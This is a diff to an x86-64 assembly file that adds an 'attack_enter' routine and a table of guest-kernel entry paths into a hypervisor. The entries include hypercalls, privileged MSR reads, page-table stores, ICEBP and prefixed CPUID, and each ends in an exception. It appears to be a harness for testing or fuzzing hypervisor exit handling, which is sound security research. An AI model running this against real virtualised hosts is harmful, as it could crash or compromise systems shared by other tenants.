@@ -42,4 +42,57 @@ attack_rdmsr:
     mov %ecx, %ss
     ret
 
+    // void attack_enter(u64 flags, void const* code, u64 entry): goes to one of the ways in below, all of which end with an
+    // exception. `entry` is the address of an entry of a page table.
+    .globl attack_enter
+attack_enter:
+    push %rdi
+    mov %rdx, %rbx
+    mov $1, %ecx
+    popfq
+    jmp *%rsi
+
+    // Each way from the guest's kernel into the hypervisor, and a null pointer behind the last.
+    .macro way instructions:vararg
+.Lway\@:
+    \instructions
+    ud2
+    .pushsection .rodata.ways, "a"
+    .quad .Lway\@
+    .popsection
+    .endm
+
+    .pushsection .rodata.ways, "a"
+    .balign 8
+    .globl attack_ways
+attack_ways:
+    .popsection
+    way mov $17, %eax; xor %edi, %edi; syscall             // a hypercall
+    way mov $17, %eax; mov $1, %edi; xor %esi, %esi; syscall   // one whose result cannot be stored
+    way mov $63, %eax; syscall                             // one that is not there
+    way mov $29, %eax; xor %edi, %edi; syscall             // one that makes the CPU look for work
+    way int3
+    way .byte 0x0f, 0x0b, 0x78, 0x65, 0x6e, 0x0f, 0xa2     // CPUID behind its prefix
+    way .byte 0xf1                                         // ICEBP
+    way mov $0xc0000102, %ecx; rdmsr
+    way mov $0x1b, %ecx; rdmsr
+    way mov $0xffffffff, %ecx; rdmsr
+    way mov %cr0, %rax
+    way in $0x80, %al
+    way hlt
+    way int $0x80
+    way int $0x81
+    way sysenter
+    way xor %edx, %edx; xor %ecx, %ecx; div %ecx
+    way mov 0x10, %eax                                     // nothing is mapped there
+    way movabs $0xffff830000000000, %rax; mov (%rax), %eax
+    way movabs $0x800000000000, %rax; mov (%rax), %eax
+    way mov (%rbx), %rax; mov %rax, (%rbx)                 // a store into a page table
+    way lock; btrq $63, (%rbx)
+    way mov $0xfff3, %eax; mov %eax, %es
+    way mov %ss, %eax; mov %eax, %ss; syscall
+    .pushsection .rodata.ways, "a"
+    .quad 0
+    .popsection
+
     .section .note.GNU-stack, "", @progbits
